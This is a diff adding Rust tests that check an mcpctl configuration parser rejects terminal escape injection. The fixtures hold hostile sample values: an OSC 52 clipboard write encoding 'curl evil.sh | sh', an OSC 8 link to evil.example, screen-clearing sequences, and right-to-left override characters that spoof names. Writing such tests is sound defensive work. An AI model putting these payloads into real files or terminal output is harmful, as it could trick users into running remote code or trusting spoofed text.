@@ -944,6 +944,60 @@ fn snapshot_secret() {
     insta::assert_snapshot!("secret", rendered);
 }
 
+/// Terminal escapes written as KDL escapes (`\u{1b}`): ESC[2J (clear the
+/// screen), OSC 52 (write the clipboard), OSC 8 (a hyperlink) and U+202E
+/// (right-to-left override) in a description, create-at, scopes, a server
+/// name, a command argument and an env value. Each is refused, and the
+/// rendering quotes them only as visible escapes.
+#[test]
+fn snapshot_unsafe_characters() {
+    let source = r#"mcpctl version=1
+credential GITHUB_TOKEN {
+    description "repo access\u{1b}[2J"
+    create-at "https://github.com/settings/tokens\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}"
+    scopes "repo" "\u{1b}]8;;https://evil.example\u{1b}\\read:org\u{1b}]8;;\u{1b}\\"
+}
+server "github\u{202e}buh" {
+    description "safe \u{202e}evil"
+    command npx "server\u{1b}[1A\u{1b}[2K"
+    env GITHUB_TOKEN credential=GITHUB_TOKEN
+}
+"#;
+    let err = parse("mcpctl.kdl", source).unwrap_err();
+    let unsafe_at: Vec<&str> = err
+        .problems()
+        .iter()
+        .filter(|p| p.kind == ProblemKind::UnsafeCharacter)
+        .map(|p| at(source, p, 0))
+        .collect();
+    assert_eq!(unsafe_at.len(), 6, "{unsafe_at:#?}");
+    let rendered = render(&err);
+    assert!(
+        !rendered.contains(|c| c != '\n' && crate::terminal_text::is_unsafe(c)),
+        "{rendered:?}"
+    );
+    insta::assert_snapshot!("unsafe_characters", rendered);
+}
+
+/// The same characters written as themselves in the file: named, at their
+/// place, and the quoted line shows a `?` instead.
+#[test]
+fn raw_unsafe_characters_are_named() {
+    let source = "mcpctl version=1\nserver github {\n    description \"a\u{1b}[2J\u{202e}b\"\n    command npx\n}\n";
+    let err = parse("mcpctl.kdl", source).unwrap_err();
+    let messages: Vec<&str> = err.problems().iter().map(|p| p.message.as_str()).collect();
+    assert_eq!(
+        messages,
+        [
+            "the file holds ESC (U+001B)",
+            "the file holds RIGHT-TO-LEFT OVERRIDE (U+202E)"
+        ]
+    );
+    assert_eq!(at(source, &err.problems()[0], 0), "\u{1b}");
+    let rendered = render(&err);
+    assert!(!rendered.contains(['\u{1b}', '\u{202e}']), "{rendered:?}");
+}
+
 // ----- files -------------------------------------------------------------------------
 
 #[test]
